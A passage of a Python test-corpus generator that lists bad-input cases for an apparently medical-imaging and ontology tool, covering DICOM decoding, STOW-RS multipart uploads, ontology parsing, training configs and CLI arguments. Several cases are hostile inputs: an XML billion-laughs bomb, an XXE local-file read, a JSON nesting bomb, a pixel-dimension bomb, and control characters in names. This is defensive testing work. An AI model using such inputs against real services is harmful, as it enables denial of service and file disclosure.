        note="JPEG Baseline in the file meta over uncompressed pixels",
    ),
    Case(
        "dicom-pydicom-jpeg-12bit",
        "dicom/undecodable-compressed",
        _predict(),
        422,
        "12-bit",
        _testdata("JPEG-lossy.dcm"),
        ".dcm",
        note="12-bit JPEG Extended: no installed decoder reads it; the reason is named",
    ),
    Case(
        "dicom-rle-truncated",
        "dicom/undecodable-compressed",
        _predict(),
        422,
        "cannot decode DICOM pixel data",
        _rle_truncated,
        ".dcm",
    ),
    Case(
        "dicom-huge-dimensions",
        "dicom/huge-dimensions",
        _predict(),
        413,
        "pixels",
        lambda _: im.bomb_dicom(),
        ".dcm",
        note="65535 x 65535 declared, 16 x 16 stored",
    ),
    Case(
        "dicom-huge-frame-count",
        "dicom/huge-dimensions",
        _predict(),
        422,
        "frame(s)",
        lambda _: im.bomb_dicom(rows=64, columns=64, frames=100_000),
        ".dcm",
    ),
    Case(
        "dicom-pydicom-rtdose-10x10",
        "dicom/too-small",
        _predict(),
        422,
        "image too small",
        _testdata("rtdose_1frame.dcm"),
        ".dcm",
    ),
    Case(
        "dicom-multiframe",
        "dicom/multi-frame",
        _predict(),
        200,
        "multi-frame DICOM: used frame 1 of 3",
        _dicom(frames=3, rows=64, columns=64),
        ".dcm",
        valid=True,
        absent=PHI,
    ),
    Case(
        "dicom-monochrome1",
        "dicom/monochrome1",
        _predict(),
        200,
        "MONOCHROME1 inverted",
        _dicom(photometric="MONOCHROME1"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-16bit",
        "dicom/16-bit",
        _predict(),
        200,
        '"kind":"dicom"',
        _dicom(bits=16),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-rgb",
        "dicom/rgb",
        _predict(),
        200,
        "RGB converted to gray",
        _dicom(photometric="RGB"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-jpeg-baseline",
        "dicom/jpeg-baseline",
        _predict(),
        200,
        '"kind":"dicom"',
        _testdata("SC_rgb_jpeg.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-jpeg2000",
        "dicom/jpeg2000",
        _predict(),
        200,
        '"kind":"dicom"',
        _testdata("JPEG2000.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-jpeg-ls",
        "dicom/jpeg-ls",
        _predict(),
        200,
        '"kind":"dicom"',
        _testdata("MR_small_jpeg_ls_lossless.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-rle",
        "dicom/rle",
        _predict(),
        200,
        '"kind":"dicom"',
        _testdata("MR_small_RLE.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-big-endian",
        "dicom/big-endian",
        _predict(),
        200,
        '"kind":"dicom"',
        _testdata("MR_small_bigendian.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-deflated",
        "dicom/deflated",
        _predict(),
        200,
        '"kind":"dicom"',
        _testdata("image_dfl.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-no-preamble",
        "dicom/no-preamble",
        _predict(),
        200,
        "no transfer syntax in its file meta",
        _dicom(preamble=False),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-ct",
        "dicom/not-a-radiograph",
        _predict(),
        200,
        "modality CT is not a projection radiograph",
        _testdata("CT_small.dcm"),
        ".dcm",
        valid=True,
    ),
    Case(
        "dicom-bad-window",
        "dicom/bad-window",
        _predict(),
        200,
        '"kind":"dicom"',
        _bad_value("WindowCenter", "1234.5", b"abc.de"),
        ".dcm",
        valid=True,
        note="an unreadable window is ignored (min-max scaling), not fatal",
    ),
    Case(
        "dicom-radiograph",
        "dicom/real-radiograph",
        _predict(),
        200,
        '"kind":"dicom"',
        _radiograph_dicom,
        ".dcm",
        valid=True,
        absent=PHI,
    ),
    # -- STOW-RS multipart ----------------------------------------------------------------------
    Case(
        "stow-no-boundary",
        "multipart/missing-boundary",
        _stow_target('multipart/related; type="application/dicom"'),
        400,
        "no boundary",
        _stow(_good_part),
    ),
    Case(
        "stow-type-png",
        "multipart/wrong-related-type",
        _stow_target(f'multipart/related; type="image/png"; boundary={STOW_BOUNDARY}'),
        415,
        "image/png",
        _stow(_good_part),
    ),
    Case(
        "stow-form-data",
        "multipart/wrong-media-type",
        _stow_target(f"multipart/form-data; boundary={STOW_BOUNDARY}"),
        415,
        "'multipart/form-data' is not supported",
        _stow(_good_part),
    ),
    Case(
        "stow-bare-dicom",
        "multipart/not-multipart",
        _stow_target("application/dicom"),
        415,
        "'application/dicom' is not supported",
        _dicom(rows=32, columns=32),
    ),
    Case(
        "stow-unterminated",
        "multipart/unterminated-body",
        _stow_target(),
        400,
        "unterminated",
        _stow(_good_part, close=False),
    ),
    Case("stow-no-parts", "multipart/no-parts", _stow_target(), 400, "no parts", lambda _: _body()),
    Case(
        "stow-malformed-part-header",
        "multipart/malformed-part-header",
        _stow_target(),
        400,
        "malformed header",
        lambda _: _body(f"--{STOW_BOUNDARY}\r\nno colon here\r\n\r\nxx\r\n".encode()),
    ),
    Case(
        "stow-part-not-dicom",
        "multipart/part-not-dicom",
        _stow_target(),
        409,
        '"00081197"',
        _stow(lambda: _part(b"just some text, no DICOM at all\n")),
        note="0008,1197 FailureReason 0xC000 in the Store Instances Response",
    ),
    Case(
        "stow-part-png",
        "multipart/part-wrong-type",
        _stow_target(),
        409,
        '"Value":[49152]',
        _stow(lambda: _part(_VALID_PNG, "image/png")),
    ),
    Case(
        "stow-dicom-without-uids",
        "multipart/dicom-without-uids",
        _stow_target(),
        409,
        '"Value":[43264]',
        _stow(_dicom_without_uids),
        note="0xA900",
    ),
    Case(
        "stow-bad-url-uid",
        "multipart/bad-study-uid-in-url",
        _stow_target(path=f"{STOW}/not-a-uid"),
        400,
        "not a valid DICOM UID",
        _stow(_good_part),
    ),
    Case(
        "stow-too-many-parts",
        "multipart/too-many-parts",
        _stow_target(),
        413,
        "parts",
        _stow(*[_good_part] * 5),
    ),
    Case(
        "stow-over-limit",
        "multipart/oversized-body",
        _stow_target(),
        413,
        "larger than",
        _stow(lambda: _part(b"\0" * 1_100_000)),
    ),
    Case(
        "stow-good-and-bad",
        "multipart/mixed-parts",
        _stow_target(),
        202,
        '"00081198"',
        _stow(_good_part, lambda: _part(b"not dicom")),
        valid=True,
        note="the good instance is stored, the bad part listed as failed",
    ),
    Case(
        "stow-unlabelled-no-preamble",
        "multipart/unlabelled-part",
        _stow_target(),
        200,
        '"00081199"',
        _stow(lambda: _part(im.dicom_bytes(preamble=False, rows=32, columns=32), None)),
        valid=True,
    ),
    # -- ontology files (kgdx ontology load) --------------------------------------------------
    Case("obo-cycle", "ontology/is-a-cycle", _load(), 1, "cycle", _const(CYCLE_OBO), ".obo"),
    Case(
        "obo-dangling",
        "ontology/dangling-reference",
        _load(),
        1,
        "A:9",
        _const(DANGLING_OBO),
        ".obo",
    ),
    Case(
        "owl-billion-laughs",
        "ontology/xml-bomb",
        _load(),
        1,
        "DTD or entities",
        _const(BILLION_LAUGHS),
        ".owl",
        absent=("lollol",),
    ),
    Case(
        "owl-xxe-local-file",
        "ontology/external-entity",
        _load(),
        1,
        "DTD or entities",
        _xxe,
        ".owl",
        absent=(SECRET, "do-not-leak"),
    ),
    Case(
        "owl-parameter-entity",
        "ontology/external-entity",
        _load(),
        1,
        "DTD or entities",
        _const(PARAMETER_ENTITY),
        ".owl",
    ),
    Case(
        "obo-utf16", "ontology/utf-16", _load(), 1, "UTF-16", lambda _: OBO.encode("utf-16"), ".obo"
    ),
    Case(
        "owl-utf16",
        "ontology/utf-16",
        _load(),
        1,
        "UTF-16",
        lambda _: OWL.replace("{encoding}", "UTF-16").encode("utf-16"),
        ".owl",
    ),
    Case(
        "obo-latin1",
        "ontology/latin-1",
        _load(),
        1,
        "not valid UTF-8",
        lambda _: OBO_LATIN1.encode("latin-1"),
        ".obo",
    ),
    Case("obo-empty", "ontology/empty-file", _load(), 1, "empty file", _const(b""), ".obo"),
    Case(
        "obo-binary",
        "ontology/binary-garbage",
        _load(),
        1,
        "binary data",
        _random_bytes(4096),
        ".obo",
    ),
    Case(
        "obo-duplicate-id",
        "ontology/duplicate-id",
        _load(),
        1,
        "duplicate",
        _const(OBO + "\n[Term]\nid: C:1\nname: again\n"),
        ".obo",
    ),
    Case(
        "obo-bad-weight",
        "ontology/bad-qualifier",
        _load(),
        1,
        "weight must be in (0, 1]",
        _const(OBO.replace('weight="0.5"', 'weight="7"')),
        ".obo",
    ),
    Case(
        "owl-truncated",
        "ontology/malformed-xml",
        _load(),
        1,
        "malformed XML",
        lambda _: OWL.replace("{encoding}", "UTF-8")[:200],
        ".owl",
    ),
    Case(
        "obojson-invalid",
        "ontology/malformed-json",
        _load(),
        1,
        "JSON",
        _const('{"graphs": [{"nodes": [}'),
        ".json",
    ),
    Case(
        "obojson-nested-deep",
        "ontology/json-nesting-bomb",
        _load(),
        1,
        "nested too deeply",
        _const("[" * 100_000 + "]" * 100_000),
        ".json",
    ),
    Case(
        "unknown-format",
        "ontology/unknown-format",
        _load(),
        1,
        "unknown ontology format",
        _const("just a line of text\n"),
        ".txt",
    ),
    Case(
        "obo-as-owl",
        "ontology/wrong-format-option",
        _load("--format", "owl"),
        1,
        "malformed XML",
        _const(OBO),
        ".obo",
    ),
    Case(
        "ontology-directory",
        "ontology/not-a-file",
        Cli(("ontology", "load", "{corpus}")),
        1,
        "not a regular file",
        _none,
    ),
    Case(
        "obo-bom",
        "ontology/utf-8-bom",
        _load(),
        0,
        "stored",
        lambda _: b"\xef\xbb\xbf" + OBO.encode(),
        ".obo",
        valid=True,
    ),
    Case(
        "obo-crlf",
        "ontology/crlf-line-ends",
        _load("--name", "corpus-crlf"),
        0,
        "stored",
        lambda _: OBO.replace("\n", "\r\n").encode(),
        ".obo",
        valid=True,
    ),
    Case(
        "obo-cycle-allowed",
        "ontology/cycle-allowed",
        _load("--allow-cycles"),
        0,
        "stored",
        _const(CYCLE_OBO.replace("corpus", "corpus-cycle")),
        ".obo",
        valid=True,
    ),
    Case(
        "obo-dangling-dropped",
        "ontology/dangling-dropped",
        _load("--drop-dangling"),
        0,
        "stored",
        _const(DANGLING_OBO.replace("corpus", "corpus-dangling")),
        ".obo",
        valid=True,
    ),
    Case(
        "owl-fixture",
        "ontology/real-owl",
        _load("--name", "chest-owl"),
        0,
        "stored",
        _repo_file("tests/kg/fixtures/chest.owl"),
        ".owl",
        valid=True,
    ),
    # -- training configs (kgdx train --config) -----------------------------------------------
    Case(
        "train-unknown-key",
        "train-config/unknown-key",
        _train(),
        1,
        "train.lr_max unknown; did you mean train.lr?",
        _toml(train="lr_max = 1.0\n"),
        ".toml",
    ),
    Case(
        "train-unknown-section",
        "train-config/unknown-section",
        _train(),
        1,
        "unknown section [trian]",
        _toml(extra="[trian]\nlr = 1.0\n"),
        ".toml",
    ),
    Case(
        "train-missing-labels",
        "train-config/missing-file",
        _train(),
        1,
        "not found",
        lambda c: _toml()(c).replace("labels.csv", "no-such-labels.csv", 1),
        ".toml",
    ),
    Case(
        "train-missing-ontology",
        "train-config/missing-file",
        _train(),
        1,
        "not found",
        lambda c: _toml()(c).replace("tiny.obo", "no-such.obo", 1),
        ".toml",
    ),
    Case(
        "train-unmapped-label",
        "train-config/unmapped-label",
        _train(),
        1,
        "could not be mapped",
        lambda c: _toml()(c).replace('"Effusion"]', '"Kidney stone"]'),
        ".toml",
    ),
    Case(
        "train-empty-val-split",
        "train-config/empty-split",
        _train(),
        1,
        "validation split is empty",
        _toml(data='val_split = "no-such-split"\n'),
        ".toml",
    ),
    Case(
        "train-no-rows",
        "train-config/empty-split",
        _train(),
        1,
        "empty",
        _toml_header_only_labels,
        ".toml",
        note="a labels CSV with a header and no rows",
    ),
    Case(
        "train-lr-text",
        "train-config/bad-type",
        _train(),
        1,
        "train.lr must be a number",
        _toml(train='lr = "fast"\n'),
        ".toml",
    ),
    Case(
        "train-lr-inf",
        "train-config/non-finite-number",
        _train(),
        1,
        "train.lr must be a finite number",
        _toml(train="lr = inf\n"),
        ".toml",
    ),
    Case(
        "train-seed-huge",
        "train-config/seed-out-of-range",
        _train("--set", "train.seed=99999999999999999999999"),
        1,
        "train.seed must be in [0, 2**64)",
        _toml(),
        ".toml",
        note="torch refuses a seed of 2**64 or more, after the data were read",
    ),
    Case(
        "train-nul-in-path",
        "train-config/nul-in-path",
        _train(),
        1,
        "data.images: the path holds a NUL character",
        lambda c: _toml()(c).replace('/images"\n', '/images\\u0000"\n', 1),
        ".toml",
    ),
    Case(
        "train-epochs-zero",
        "train-config/bad-value",
        _train(),
        1,
        "train.epochs must be >= 1",
        lambda c: _toml()(c).replace("epochs = 1", "epochs = 0"),
        ".toml",
    ),
    Case(
        "train-invalid-toml",
        "train-config/invalid-toml",
        _train(),
        1,
        "invalid TOML",
        _const("[data\nlabels = 1\n"),
        ".toml",
    ),
    Case(
        "train-utf16-toml",
        "train-config/not-utf-8",
        _train(),
        1,
        "UTF-8",
        lambda c: _toml()(c).encode("utf-16"),
        ".toml",
    ),
    Case(
        "train-no-data-section",
        "train-config/missing-section",
        _train(),
        1,
        "needs a [data] section",
        _const("[train]\nepochs = 1\n"),
        ".toml",
    ),
    Case(
        "train-bad-override",
        "train-config/bad-override",
        _train("--set", "epochs=3"),
        1,
        "section.key=value",
        _toml(),
        ".toml",
    ),
    # -- CLI arguments ----------------------------------------------------------------------------
    Case(
        "cli-unknown-option",
        "cli-args/unknown-option",
        _load("--bogus"),
        2,
        "No such option",
        _const(OBO),
        ".obo",
    ),
    Case(
        "cli-missing-argument",
        "cli-args/missing-argument",
        Cli(("ontology", "load")),
        2,
        "Missing argument",
        _none,
    ),
    Case(
        "cli-unknown-command",
        "cli-args/unknown-command",
        Cli(("frobnicate",)),
        2,
        "No such command",
        _none,
    ),
    Case(
        "cli-max-hops-not-int",
        "cli-args/bad-value",
        Cli(("ontology", "paths", "C:1", "C:2", "--max-hops", "many")),
        2,
        "Invalid value",
        _none,
    ),
    Case(
        "cli-train-no-config",
        "cli-args/missing-option",
        Cli(("train",)),
        2,
        "Missing option",
        _none,
    ),
    Case(
        "cli-train-config-missing",
        "cli-args/missing-file",
        Cli(("train", "--config", "{corpus}/no-such.toml", "--out", "{out}")),
        1,
        "training config not found",
        _none,
    ),
    Case(
        "cli-load-missing-file",
        "cli-args/missing-file",
        Cli(("ontology", "load", "{corpus}/no-such.obo")),
        1,
        "no such file",
        _none,
    ),
    Case(
        "cli-load-name-control-chars",
        "cli-args/control-characters",
        _load("--name", "chest\x1b[31m\x00"),
        1,
        "no control characters",
        _const(OBO),
        ".obo",
    ),
    Case(
        "cli-load-format-xlsx",
        "cli-args/bad-choice",
        _load("--format", "xlsx"),
        1,
        "unknown format",
        _const(OBO),
        ".obo",
    ),
    Case(
        "cli-predict-missing-file",
        "cli-args/missing-file",
        Cli(("predict", "{corpus}/no-such.png")),
        1,
        "no such file",
        _none,
    ),
    Case(
        "cli-predict-truncated",
        "cli-args/bad-input-file",
        Cli(("predict", "{file}")),
        1,
        "truncated or corrupt PNG",
        lambda _: im.truncated(_sample_png(_), 0.3),
        ".png",
    ),
    Case(
        "cli-predict-threshold-2",
        "cli-args/bad-value",
        Cli(("predict", "{file}", "--threshold", "2")),
        2,
        "Invalid value",
        _sample_png,
        ".png",
    ),
    Case(
        "cli-serve-port-70000",
        "cli-args/bad-setting",
        Cli(("serve", "--port", "70000")),
        1,
        "port",
        _none,
    ),
    Case(
        "cli-serve-no-auth-public",
        "cli-args/unsafe-setting",
        Cli(("serve", "--no-auth", "--host", "0.0.0.0")),
        1,
        "no_auth is only allowed",
        _none,
    ),
    Case(
        "cli-apikey-bad-scope",
        "cli-args/bad-choice",
        Cli(("apikey", "create", "--name", "x", "--scope", "root")),
        1,
        "root",
        _none,
    ),
    Case(
        "cli-show-unknown-ontology",
        "cli-args/unknown-name",
        Cli(("ontology", "show", "C:1", "-o", "no-such-ontology")),
        1,
        "no-such-ontology",
        _none,
    ),
    Case(
        "cli-export-format",
        "cli-args/bad-choice",
        Cli(("ontology", "export", "--format", "xlsx")),
        1,
        "unknown export format",
        _none,
    ),
    Case("cli-version", "cli-args/valid", Cli(("--version",)), 0, "kgdx", _none, valid=True),
)


# ---------------------------------------------------------------------------------------------
# Writing the corpus
# ---------------------------------------------------------------------------------------------


def file_name(case: Case) -> str:
    return f"{case.id}{case.suffix}"


def generate(out: Path, cases: tuple[Case, ...] = CASES) -> list[dict[str, object]]:
    """Write every case's file under ``out/files`` and ``out/manifest.json``; returns the
    manifest entries (``file`` is relative to ``out``, or None)."""
    ids = [c.id for c in cases]
    if len(set(ids)) != len(ids):
        raise ValueError("case ids must be unique")
    files = out / "files"
    files.mkdir(parents=True, exist_ok=True)
    entries = []
    for case in cases:
        content = case.build(out)
        entry = case.manifest_entry()
        if content is None:
            entry["file"] = None
        else:
            path = files / file_name(case)
            if isinstance(content, str):
                path.write_text(content, encoding="utf-8")
            else:
                path.write_bytes(content)
            entry["file"] = f"files/{path.name}"
        entries.append(entry)
    manifest = {"cases": entries, "service_settings": SERVICE_SETTINGS}
    (out / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    return entries


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=Path, default=Path("badinputs-corpus"), help="folder")
    args = parser.parse_args(argv)
    entries = generate(args.out)
    kinds = {str(e["kind"]) for e in entries}
    print(f"{len(entries)} cases, {len(kinds)} kinds -> {args.out / 'manifest.json'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
